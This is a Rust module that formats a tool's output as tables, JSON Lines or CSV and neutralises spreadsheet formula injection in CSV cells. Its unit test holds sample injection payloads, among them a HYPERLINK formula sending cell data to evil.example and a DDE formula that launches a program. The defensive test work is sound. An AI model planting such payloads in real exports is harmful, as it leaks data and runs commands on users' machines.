//! Output for people and programs: aligned tables, JSON Lines, CSV.

use comfy_table::{presets, ContentArrangement, Table};

use crate::cli::Format;
use crate::fail::Result;

/// The format asked for, or a table on a terminal and JSON Lines when piped.
pub fn resolve(format: Option<Format>) -> Format {
    format.unwrap_or(if crate::console::stdout_is_terminal() { Format::Table } else { Format::Json })
}

/// Rows of text under a header, printed as a table or CSV.
pub struct Grid {
    pub header: Vec<&'static str>,
    pub rows: Vec<Vec<String>>,
}

impl Grid {
    pub fn new(header: Vec<&'static str>) -> Self {
        Grid { header, rows: Vec::new() }
    }

    pub fn push(&mut self, row: Vec<String>) {
        self.rows.push(row);
    }

    pub fn print_table(&self) -> Result<()> {
        let mut t = Table::new();
        t.load_preset(presets::UTF8_FULL_CONDENSED)
            .set_content_arrangement(ContentArrangement::Dynamic)
            .set_header(self.header.clone());
        for r in &self.rows {
            t.add_row(r.clone());
        }
        crate::console::outln!("{t}")?;
        Ok(())
    }

    /// The rows as CSV (RFC 4180), every cell that a spreadsheet would take for a formula
    /// neutralised ([`inert`]).
    pub fn print_csv(&self) -> Result<()> {
        let mut w = csv::Writer::from_writer(crate::console::stdout());
        let fail = |e: csv::Error| crate::fail::input(e.to_string());
        w.write_record(&self.header).map_err(fail)?;
        for r in &self.rows {
            w.write_record(r.iter().map(|cell| inert(cell).into_owned())).map_err(fail)?;
        }
        w.flush()?;
        Ok(())
    }
}

/// A cell as a spreadsheet will read it as text, never as a formula: one that begins with `=`,
/// `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, as OWASP's advice on CSV
/// injection has it — unless it is a plain number (`-3`, `12.50`), which no spreadsheet runs.
pub fn inert(cell: &str) -> std::borrow::Cow<'_, str> {
    let number = |s: &str| {
        let digits = s.strip_prefix('-').unwrap_or(s);
        let (whole, frac) = digits.split_once('.').unwrap_or((digits, "0"));
        !whole.is_empty() && !frac.is_empty() && (whole.bytes().chain(frac.bytes())).all(|b| b.is_ascii_digit())
    };
    match cell.bytes().next() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') if !number(cell) => format!("'{cell}").into(),
        _ => cell.into(),
    }
}

#[cfg(test)]
mod tests {
    use super::inert;

    #[test]
    fn formulas_are_neutralised_and_numbers_left_alone() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-1+1",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "-",
            "=",
            "-.5",
        ] {
            assert_eq!(inert(formula), format!("'{formula}"), "{formula:?}");
        }
        for plain in ["", "12.50", "-3", "-0.25", "ML-3", "P-000001", "a=b", " =x", "USD"] {
            assert_eq!(inert(plain), plain, "{plain:?}");
        }
    }
}
